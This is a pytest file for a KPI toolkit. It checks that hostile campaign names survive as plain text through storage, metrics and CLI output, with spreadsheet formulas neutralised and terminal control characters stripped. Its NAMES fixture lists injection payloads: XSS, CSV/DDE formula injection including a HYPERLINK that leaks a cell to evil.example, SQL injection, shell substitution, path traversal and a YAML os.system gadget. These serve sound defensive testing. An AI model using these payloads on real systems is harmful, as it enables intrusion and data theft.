"""Names that vendors write are text: from the file through the store and the metrics to what the command prints."""

from __future__ import annotations

import csv
import io
import json
import os
import re
import subprocess
import sys
from pathlib import Path

import pytest

from kpi_toolkit.agreement.workspace import open_workspace
from kpi_toolkit.metrics import measure
from kpi_toolkit.periods import parse_period
from kpi_toolkit.store import Store

NAMES = {
    "script": "<script>alert(1)</script>",
    "image": '"><img src=x onerror=alert(1)>',
    "entity": "A &amp; B &lt;b&gt;",
    "hyperlink": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "command": "=cmd|' /C calc'!A0",
    "plus": "+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "wide equals": "＝1+1",
    "sql": "'; DROP TABLE ads_daily; --",
    "sql comment": "x' OR 1=1 /*",
    "double quotes": 'say "hi"; "" end',
    "braces": "{braces} {0} {client.name} {{x}}",
    "percent": "%s %d %(x)s 100%",
    "dollar": "${HOME} $(id) `id` $1",
    "backslash": r"C:\new\table \u0041 \x00",
    "lines": "\n".join(f"line {number}" for number in range(40)),
    "windows lines": "first\r\nsecond",
    "tab": "a\tb",
    "rtl": "שלום \u202egnp.exe\u202c مرحبا",
    "emoji": "🔥限時 👩‍👩‍👧‍👦 🇹🇼 e\u0301",
    "invisible": "zero\u200bwidth\ufeff joined",
    "separators": "a\u2028b\u2029c\x85d",
    "escape": "\x1b[31mred\x1b[0m \x07bell",
    "long": "超長" * 5_000,
    "path": "../../../etc/passwd",
    "windows path": r"..\..\windows\system32",
    "markdown": "[click](javascript:alert(1)) | **bold** | `code`",
    "rich": "[red]x[/red] [link=http://evil.example]y[/link]",
    "null": "NULL",
    "nan": "nan",
    "number": "1e5",
    "date": "2026-10-01",
    "jinja": "{% raw %}{{ 7*7 }}{% endraw %}",
    "yaml": "!!python/object/apply:os.system ['id']",
    "surplus": "a,b;c\td|e",
    "total": "Total Wine & More",
    "chinese total": "總計畫品牌",
}  # fmt: skip
# What a spreadsheet would run; the csv begins such a cell with a quotation mark.
FORMULAS = {"hyperlink", "command", "plus", "minus", "at", "wide equals"}
CONTROL = re.compile("[\x00-\x1f\x7f-\x9f\u200e\u200f\u202a-\u202e\u2066-\u2069]")


def spend(name: str) -> int:
    """What each campaign spent: figures that can't be taken for another's."""
    return 1000 + [*NAMES].index(name)


def export(names: dict[str, str]) -> str:
    out = io.StringIO(newline="")
    header = ["Day", "Campaign", "Impr.", "Clicks", "Cost", "Currency code"]
    rows = [["2026-10-01", text, 100, 10, spend(name), "TWD"] for name, text in names.items()]
    csv.writer(out, lineterminator="\n").writerows([header, *rows])
    return out.getvalue()


def workspace(root: Path, content: str) -> Path:
    folder = root / "clients/acme"
    (folder / "data").mkdir(parents=True)
    (root / "workspace.yaml").write_text("language: en\n", encoding="utf-8")
    (folder / "client.yaml").write_text("name: {zh: 甲公司, en: Acme}\ngoal: orders\n", encoding="utf-8")
    (folder / "data/Campaign report.csv").write_text(content, encoding="utf-8", newline="")
    return root


@pytest.fixture(scope="module")
def root(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A workspace whose one export holds every name."""
    return workspace(tmp_path_factory.mktemp("hostile") / "ws", export(NAMES))


@pytest.fixture(scope="module")
def store(root: Path) -> Store:
    return Store(open_workspace(root))


def printed(root: Path, *words: str) -> str:
    command = [sys.executable, "-m", "kpi_toolkit", *words, "--workspace", str(root)]
    done = subprocess.run(command, capture_output=True, check=False, env={**os.environ, "NO_COLOR": "1"})
    assert done.returncode == 0, done.stderr.decode()
    assert done.stderr == b""
    return done.stdout.decode("utf-8")


@pytest.fixture(scope="module")
def as_json(root: Path) -> dict[int, str]:
    """What `metrics --format json` calls the campaign that spent that much."""
    rows = json.loads(printed(root, "metrics", "--client", "acme", "--period", "2026-10", "--by", "campaign", "--metric", "spend", "--format", "json"))  # fmt: skip
    return {round(row["value"]): row["campaign"] for row in rows}


@pytest.fixture(scope="module")
def as_csv(root: Path) -> dict[int, str]:
    """The same of `--format csv`."""
    words = printed(root, "metrics", "--client", "acme", "--period", "2026-10", "--by", "campaign", "--metric", "spend", "--format", "csv")  # fmt: skip
    rows = list(csv.DictReader(io.StringIO(words, newline="")))
    return {round(float(row["value"])): row["campaign"] for row in rows}


def test_all_names_are_read(store: Store) -> None:
    (report,) = store.load("acme")
    assert report.error is None
    assert (report.rows_read, report.rows_kept, dict(report.dropped)) == (len(NAMES), len(NAMES), {})
    assert report.totals["spend"] == sum(map(spend, NAMES))
    assert [text.say("en") for text in report.warnings] == []


@pytest.mark.parametrize("name", NAMES)
def test_a_name_arrives_in_the_store_as_it_was_written(store: Store, name: str) -> None:
    frame = store.dataset("acme").frame("ads_daily", f"spend = {spend(name)}")
    assert frame["campaign_name"].tolist() == [NAMES[name]]


def test_names_arrive_in_the_long_table_as_they_were_written(store: Store) -> None:
    table = measure(store.dataset("acme"), [parse_period("2026-10")], by=["campaign"], metrics=["spend"])
    assert dict(zip(table["campaign"], table["value"], strict=True)) == {text: spend(name) for name, text in NAMES.items()}  # fmt: skip


@pytest.mark.parametrize("name", NAMES)
def test_a_name_arrives_in_the_json_as_it_was_written(as_json: dict[int, str], name: str) -> None:
    assert as_json[spend(name)] == NAMES[name]


@pytest.mark.parametrize("name", NAMES)
def test_a_name_arrives_in_the_csv_without_what_a_spreadsheet_or_terminal_would_obey(
    as_csv: dict[int, str], name: str
) -> None:
    plain = CONTROL.sub(" ", NAMES[name])
    assert as_csv[spend(name)] == ("'" + plain if name in FORMULAS else plain)


def test_what_is_printed_for_people_steers_no_terminal(root: Path) -> None:
    for words in (("metrics", "--client", "acme", "--period", "2026-10", "--by", "campaign", "--metric", "spend"), ("read", "--client", "acme")):  # fmt: skip
        said = printed(root, *words)
        assert CONTROL.findall(said.replace("\n", "")) == []
    assert "<script>alert(1)</script>" in printed(root, "metrics", "--client", "acme", "--period", "2026-10", "--by", "campaign", "--metric", "spend")  # fmt: skip


@pytest.mark.parametrize("name", ["lines", "long", "sql", "hyperlink", "rtl", "braces"])
def test_hostile_words_in_a_faulty_cell_are_told_in_one_line(tmp_path: Path, name: str) -> None:
    """A figure's cell holds the name: the error shows the beginning of it, as text."""
    out = io.StringIO(newline="")
    header = ["Day", "Campaign", "Impr.", "Clicks", "Cost", "Currency code"]
    csv.writer(out).writerows([header, ["2026-10-01", "A", 1, 1, NAMES[name] + "x", "TWD"]])
    folder = workspace(tmp_path, out.getvalue())
    (report,) = Store(open_workspace(folder)).load("acme")
    assert report.error is not None
    for lang in ("zh-TW", "en"):
        said = report.error.say(lang)  # type: ignore[arg-type]
        assert "\n" not in said
        assert len(said) < 500
        assert NAMES[name][:4].strip() in said
    words = [sys.executable, "-m", "kpi_toolkit", "read", "--workspace", str(folder), "--format", "json"]
    done = subprocess.run(words, capture_output=True, check=False)
    assert done.returncode == 1
    assert json.loads(done.stdout)[0]["error"] == report.error.say("en")
    assert CONTROL.findall(done.stdout.decode().replace("\n", "")) == []


@pytest.mark.parametrize("name", ["script", "sql", "braces", "percent", "path", "rtl", "emoji", "jinja"])
def test_hostile_headers_are_told_as_text(tmp_path: Path, name: str) -> None:
    out = io.StringIO(newline="")
    csv.writer(out).writerows([[NAMES[name], "Day", "x"], ["1", "2", "3"]])
    (report,) = Store(open_workspace(workspace(tmp_path, out.getvalue()))).load("acme")
    assert report.error is not None
    assert "no source knows this header" in report.error.say("en")
    assert "表頭" in report.error.say("zh-TW") or "欄位" in report.error.say("zh-TW")
